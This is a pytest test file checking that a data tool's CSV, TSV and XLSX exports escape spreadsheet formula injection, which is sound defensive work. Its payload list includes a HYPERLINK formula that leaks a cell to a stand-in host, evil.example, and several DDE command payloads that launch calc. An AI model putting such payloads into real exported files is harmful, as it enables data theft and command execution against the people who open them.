"""Files impactlab writes for spreadsheets: no cell runs as a formula (the OWASP CSV-injection rule),
numbers stay numbers, and ``impactlab validate --rejected`` writes its ledger that way."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from impactlab.cli import main
from impactlab.io.export import escape_cell, spreadsheet_safe, write_table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
    "-",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e-3", " -7 ", "3.", ".5", "Ann", "a=1", "E-001", "",
                                   "'=1"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [-3.5, 7, None, True, pd.Timestamp("2024-01-01")])
def test_values_that_are_not_text_are_left_alone(value):
    assert escape_cell(value) is value


def test_csv_cells_are_escaped_quoted_and_numbers_kept(tmp_path):
    frame = pd.DataFrame({
        "name": ["=1+2", "a;=1+2", 'say "hi"', "-3.5", None],
        "pay": [-3.5, 10.0, 0.25, -1.0, float("nan")],
        "n": [1, -2, 3, 4, 5],
    })
    before = frame.copy()
    path = write_table(frame, tmp_path / "out" / "t.csv")
    assert path.read_text(encoding="utf-8").splitlines() == [
        '"name","pay","n"',
        "\"'=1+2\",-3.5,1",
        '"a;=1+2",10.0,-2',
        '"say ""hi""",0.25,3',
        '"-3.5",-1.0,4',
        '"","",5',
    ]
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not changed
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert [r[0] for r in rows[1:]] == ["'=1+2", "a;=1+2", 'say "hi"', "-3.5", ""]


def test_tsv_and_header_names(tmp_path):
    path = write_table(pd.DataFrame({"=evil": ["@x"], "ok": [1]}), tmp_path / "t.tsv")
    assert path.read_text(encoding="utf-8").splitlines() == ["\"'=evil\"\t\"ok\"", "\"'@x\"\t1"]


def test_xlsx_stores_text_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"name": ["=1+2", "+cmd|' /C calc'!A0", "Ann"], "pay": [-3.5, 2.0, 1.0],
                          "at": pd.to_datetime(["2024-01-01 12:00"] * 3).tz_localize("Europe/Paris")})
    path = write_table(frame, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [c[0].value for c in cells] == ["=1+2", "+cmd|' /C calc'!A0", "Ann"]  # exactly as read
    assert [c[0].data_type for c in cells] == ["s", "s", "s"]
    assert [c[0].quotePrefix for c in cells] == [True, True, False]
    assert [c[1].value for c in cells] == [-3.5, 2.0, 1.0]
    assert str(cells[0][2].value) == "2024-01-01 11:00:00"  # UTC


def test_other_suffixes_are_refused(tmp_path):
    with pytest.raises(ValueError, match=r"'path' parameter must name a .csv, .tsv, .txt, .xlsx file"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.json")


def test_spreadsheet_safe_touches_only_text(tmp_path):
    frame = pd.DataFrame({"a": ["=x", "y"], "b": [-1.5, 2.0], "c": pd.to_datetime(["2024-01-01", None])})
    safe = spreadsheet_safe(frame)
    assert safe["a"].tolist() == ["'=x", "y"]
    pd.testing.assert_series_equal(safe["b"], frame["b"])
    pd.testing.assert_series_equal(safe["c"], frame["c"])


def test_validate_rejected_escapes_the_issue_payloads(tmp_path, capsys):
    src = tmp_path / "lms.csv"
    rows = [["User ID", "Training Title", "Transcript Status", "Transcript Completed Date", "Score"],
            ["E1", "Negotiation", "Completed", "2024-03-01", "80"]]
    rows += [["E2", "Negotiation", payload, "2024-03-01", "-3.5"] for payload in PAYLOADS[:4]]
    with src.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    out = tmp_path / "rejected.csv"
    assert main(["validate", str(src), "--rejected", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    written = list(csv.reader(text.splitlines()))
    cells = [cell for row in written for cell in row]
    for payload in PAYLOADS[:4]:
        assert "'" + payload in cells
    assert not [c for c in cells if c[:1] in "=+@" or (c.startswith("-") and c != "-3.5")]
    header, body = written[0], written[1:]
    assert {row[header.index("source_row")] for row in body} == {"3", "4", "5", "6"}
    assert [row[header.index("Score")] for row in body] == ["-3.5"] * len(body)  # a number: kept as it was
    assert f"Wrote the {len(body)} rejection row(s)" in capsys.readouterr().out


def test_validate_rejected_refuses_an_unknown_suffix_before_reading(tmp_path, capsys):
    src = tmp_path / "lms.csv"
    src.write_text("User ID,Training Title,Transcript Status\nE1,N,Completed\n", encoding="utf-8")
    assert main(["validate", str(src), "--rejected", str(tmp_path / "r.json")]) == 2
    assert "must name a .csv, .tsv or .xlsx file" in capsys.readouterr().err
